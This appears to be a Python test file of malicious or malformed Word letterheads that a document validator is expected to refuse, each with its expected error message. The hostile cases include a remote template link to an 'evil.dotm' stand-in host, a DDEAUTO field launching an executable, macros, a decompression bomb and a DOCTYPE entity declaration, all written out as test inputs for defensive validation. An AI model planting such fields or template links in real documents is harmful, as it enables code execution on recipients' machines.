"""Letterheads that are refused."""

from collections.abc import Callable, Mapping

from letterheads import LOGO, NAME, field, logo, packed, paragraph, simple_members
from refusal import WORD, Content, Refusal, endless, folder, made, pipe

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEADER = "word/header-default.xml"
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = (
    f'<Relationship Id="x" Type="{OFFICE}/attachedTemplate" '
    'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
)


def of(content: Content, told: str) -> Refusal:
    return Refusal(f"{NAME}: {told}", {NAME: content}, WORD)


def with_part(name: str, part: str | bytes) -> bytes:
    return packed({**simple_members(), name: part})


def with_template() -> bytes:
    relations = simple_members()[RELATIONS]
    assert isinstance(relations, str)
    return with_part(RELATIONS, relations.replace("</Relationships>", TEMPLATE))


MADE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "this is no Word document; save the letterhead in Word as"),
    "a PDF": (lambda: b"%PDF-1.7\n", "this is no Word document"),
    "old Word": (lambda: OLE + b"WordDocument", "this is an old Word document (.doc)"),
    "encrypted": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "the letterhead is encr"),
    "cut short": (lambda: packed(simple_members())[:900], "the letterhead is damaged"),
    "a bomb": (
        lambda: with_part("word/media/image2.png", LOGO + bytes(8 * 1024 * 1024 - 99)),
        "its part word/media/image2.png is larger than a letterhead needs",
    ),
    "11 MiB": (
        lambda: packed(simple_members()) + bytes(11 * 1024 * 1024),
        "the file is larger than a letterhead needs",
    ),
    "macros": (lambda: with_part("word/vbaProject.bin", b"x"), "the letterhead holds macros"),
    "a DOCTYPE": (
        lambda: with_part(HEADER, '<!DOCTYPE w [<!ENTITY a "b">]><w/>'),
        f"its part {HEADER} declares a DOCTYPE",
    ),
    "a template elsewhere": (with_template, "the letterhead reaches out to a Word template of its"),
    "a field that runs a program": (
        lambda: packed(simple_members(paragraph(field('DDEAUTO c:\\\\x.exe "/k"')))),
        "its field DDEAUTO reaches out of the file",
    ),
    "a picture of too many pixels": (
        lambda: packed(
            {
                **simple_members(paragraph(logo())),
                "word/media/image1.png": LOGO[:16] + (60_000).to_bytes(4, "big") * 2 + LOGO[24:],
            }
        ),
        "its picture 'image1.png' has too many pixels",
    ),
    "elements 10,000 deep": (
        lambda: with_part(HEADER, "<a>" * 10_000 + "</a>" * 10_000),
        "the letterhead is damaged",
    ),
}
CASES = {
    **{f"letterhead: {name}": of(made(make), told) for name, (make, told) in MADE.items()},
    "letterhead: a folder": of(folder, "this is no ordinary file"),
    "letterhead: a pipe": of(pipe, "this is no ordinary file"),
    "letterhead: a device": of(endless, "this leads out of the workspace"),
}
